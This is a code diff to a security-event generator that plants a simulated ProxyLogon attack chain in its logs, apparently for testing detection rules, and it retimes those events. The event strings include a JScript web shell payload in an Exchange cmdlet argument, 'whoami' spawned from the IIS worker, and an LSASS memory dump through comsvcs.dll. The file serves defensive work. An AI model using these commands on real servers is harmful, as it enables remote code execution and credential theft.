@@ -133,7 +133,9 @@ std::vector<Planned> Plant(const std::string& scenario, TimeMs t0, const std::st
   std::vector<Planned> out;
   auto add = [&](GenEvent e, const char* rule) { out.push_back({std::move(e), scenario, rule}); };
   if (scenario == "proxylogon") {
-    add(Cmdlet(t0 + 6200, "Set-OabVirtualDirectory",
+    // At the times of the text logs' chain: the ECP command at t0+8.5 s, the
+    // OAB export writing the page at t0+10.6 s, the shell used from t0+60 s.
+    add(Cmdlet(t0 + 8500, "Set-OabVirtualDirectory",
                "-Identity \"EXCH01\\OAB (Default Web Site)\" -ExternalUrl \"http://f/<script language=\"JScript\" "
                "runat=\"server\">function Page_Load(){eval(Request[\"code\"],\"unsafe\");}</script>\"",
                "contoso.local/Users/SYSTEM", c),
@@ -144,17 +146,17 @@ std::vector<Planned> Plant(const std::string& scenario, TimeMs t0, const std::st
                     "'Microsoft.Exchange.UM.UMCore.UMCallSession'."}},
               c),
         "exchange.windows.um_invalid_cast");
-    add(Event(t0 + 10700, kSysmon, "Microsoft-Windows-Sysmon", 11, 4,
+    add(Event(t0 + 10600, kSysmon, "Microsoft-Windows-Sysmon", 11, 4,
               {{"RuleName", "-"},
                {"Image", kW3wp},
                {"TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"}},
               c),
         "exchange.windows.page_written_by_worker");
-    add(Process(t0 + 12000, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami /all", kW3wp,
+    add(Process(t0 + 61000, "C:\\Windows\\System32\\cmd.exe", "cmd /c whoami /all", kW3wp,
                 "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\" -v \"v4.0\"",
                 "NT AUTHORITY\\SYSTEM", c),
         "exchange.windows.worker_child_shell");
-    add(Process(t0 + 14000, "C:\\Windows\\System32\\rundll32.exe",
+    add(Process(t0 + 63000, "C:\\Windows\\System32\\rundll32.exe",
                 "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\lsass.dmp full",
                 "C:\\Windows\\System32\\cmd.exe", "cmd /c rundll32.exe comsvcs.dll MiniDump", "NT AUTHORITY\\SYSTEM",
                 c),
